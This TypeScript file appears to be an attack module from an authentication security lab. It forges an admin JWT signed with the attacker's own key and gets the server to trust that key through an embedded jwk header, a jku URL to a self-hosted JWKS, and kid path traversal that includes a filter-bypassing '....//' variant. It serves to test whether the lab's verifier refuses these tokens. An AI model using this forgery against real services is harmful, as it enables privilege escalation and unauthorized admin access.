/**
 * mallory has an ordinary account and wants the admin console. She makes her own key pair and
 * signs a token for "admin" with it. The server checks signatures properly; the only question
 * is which key it checks them with. She offers it hers three ways.
 */
import { createServer } from 'node:http';
import { blocked, defineAttack, type LabTarget, postJson, worked } from '@authlab/lab-kit';
import { exportJWK, exportSPKI, generateKeyPair, type JWTHeaderParameters, SignJWT } from 'jose';

async function signIn(lab: LabTarget, username: string, password: string): Promise<string> {
  const response = await postJson(lab, '/login', { username, password });
  if (!response.ok) throw new Error(`POST /login as ${username} answered ${response.status}`);
  return ((await response.json()) as { access_token: string }).access_token;
}

export default defineAttack({
  title: "sign a token for admin with the attacker's own key, and make the server pick that key (jwk, jku, kid)",
  why: 'the server takes the verification key from the token header: an embedded jwk, a jku URL, a kid used as a file path',
  async run(lab) {
    const { publicKey, privateKey } = await generateKeyPair('EdDSA');
    const myJwk = { ...(await exportJWK(publicKey)), kid: 'mallory-1', alg: 'EdDSA', use: 'sig' };

    // Her ordinary account lets her store a "webhook key": her public key, as a .pem file on the server.
    const mine = await signIn(lab, 'mallory', 'mallory-integrates-webhooks');
    const upload = await fetch(`${lab.url}/api/webhook-key`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${mine}`, 'content-type': 'application/json' },
      body: JSON.stringify({ publicKey: await exportSPKI(publicKey) }),
    });
    if (upload.status !== 204) throw new Error(`PUT /api/webhook-key answered ${upload.status}`);

    // Her own token's claims (iss, aud, iat, exp) with sub "admin", signed with HER key.
    const claims = JSON.parse(Buffer.from(mine.split('.')[1] ?? '', 'base64url').toString());
    const forge = (header: Partial<JWTHeaderParameters>) =>
      new SignJWT({ ...claims, sub: 'admin' })
        .setProtectedHeader({ alg: 'EdDSA', typ: 'at+jwt', ...header })
        .sign(privateKey);

    // A JWK Set of her own, on her own little server; it counts who comes to fetch it.
    let fetches = 0;
    const jwksServer = createServer((_request, response) => {
      fetches += 1;
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [myJwk] }));
    });
    await new Promise<void>((resolve) => jwksServer.listen(0, '127.0.0.1', resolve));
    const { port } = jwksServer.address() as { port: number };

    // Her uploaded key is webhook-keys/mallory.pem. If the server's kid is a file name in a folder
    // beside it, "../webhook-keys/mallory" reaches her key. (Blind, she would try a few depths of
    // "../"; one is enough here.)
    const tries: [string, Partial<JWTHeaderParameters>][] = [
      ['embedded jwk', { jwk: { kty: myJwk.kty, crv: myJwk.crv, x: myJwk.x } }],
      [`jku → her JWKS at 127.0.0.1:${port}`, { jku: `http://127.0.0.1:${port}/jwks.json`, kid: myJwk.kid }],
      ['kid "../webhook-keys/mallory" (her uploaded key file)', { kid: '../webhook-keys/mallory' }],
      // The same path for a server that deletes "../" once: what is left is "../" again.
      ['kid "....//webhook-keys/mallory"', { kid: '....//webhook-keys/mallory' }],
    ];
    const results: { what: string; status: number }[] = [];
    try {
      for (const [what, header] of tries) {
        const response = await fetch(`${lab.url}/api/admin`, {
          headers: { authorization: `Bearer ${await forge(header)}` },
        });
        results.push({ what, status: response.status });
      }
    } finally {
      jwksServer.close();
      jwksServer.closeAllConnections();
    }
    const accepted = results.filter((result) => result.status === 200);
    const list = (items: typeof results) => items.map((r) => `${r.what} → ${r.status}`).join('; ');
    const fetched = `her JWKS server was fetched ${fetches} time${fetches === 1 ? '' : 's'}`;
    return accepted.length > 0
      ? worked(`/api/admin let in ${accepted.length} of ${results.length}: ${list(accepted)} (${fetched})`)
      : blocked(`/api/admin refused all ${results.length}: ${list(results)} (${fetched})`);
  },
});
